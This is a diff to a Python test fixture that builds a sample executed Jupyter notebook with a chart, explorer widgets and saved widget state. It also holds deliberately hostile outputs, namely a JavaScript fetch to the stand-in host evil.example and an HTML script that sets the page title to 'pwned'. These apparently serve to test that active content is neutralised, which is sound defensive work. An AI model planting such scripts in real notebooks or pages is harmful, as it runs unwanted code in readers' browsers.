@@ -121,11 +121,14 @@ HOSTILE_HTML = ('<p>hostile output</p><script>document.title = "pwned"; window.w
 
 
 def executed_like_notebook(path: Path) -> Path:
-    """A notebook with the outputs an executed template holds: a packet, a chart, the explorer widget
-    (with saved widget state), a hostile script output and a hostile text/html output."""
+    """A notebook with the outputs an executed template holds: a packet, a chart, the explorer as the runner
+    records it (self-contained), an explorer as a live session saves it (widget view, no saved state), a
+    hostile script output and a hostile text/html output."""
+    import ipywidgets
     import nbformat
 
     import display_samples as samples
+    from worldflux_nb.io.notebook_explorer import explorers_as_records
     from worldflux_nb.render import charts
 
     def output(bundle, metadata=None):
@@ -135,11 +138,13 @@ def executed_like_notebook(path: Path) -> Path:
     packet = samples.packet(plan)
     chart_data, chart_meta = charts.power_chart(packet, plan)._repr_mimebundle_()
     explorer = packet.explore(samples.evidence_frame(plan), plan=plan).filter(probe_id=["libero"])
+    live = packet.explore(samples.evidence_frame(plan), plan=plan).filter(probe_id=["libero-plus"])
     nb = nbformat.v4.new_notebook()
     nb.cells = [nbformat.v4.new_markdown_cell("# The record\n\nLOCAL_PRIVATE."),
                 nbformat.v4.new_code_cell("packet", outputs=[output(packet._repr_mimebundle_())]),
                 nbformat.v4.new_code_cell("power", outputs=[output(chart_data, chart_meta)]),
                 nbformat.v4.new_code_cell("explorer", outputs=[output(explorer._repr_mimebundle_())]),
+                nbformat.v4.new_code_cell("live explorer", outputs=[output(live._repr_mimebundle_())]),
                 nbformat.v4.new_code_cell("evil", outputs=[output({
                     "application/javascript": "fetch('https://evil.example/x')",
                     "text/plain": "evil"})]),
@@ -147,7 +152,7 @@ def executed_like_notebook(path: Path) -> Path:
                                                                         "text/plain": "evil html"})])]
     nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
         "version_major": 2, "version_minor": 0,
-        "state": {explorer.model_id: {"model_name": "AnyModel", "model_module": "anywidget",
-                                      "model_module_version": "*", "state": {}}}}}
+        "state": ipywidgets.Widget.get_manager_state(widgets=[explorer])["state"]}}
+    nb = explorers_as_records(nbformat.reads(nbformat.writes(nb), as_version=4))
     path.write_text(nbformat.writes(nb), encoding="utf-8")
     return path
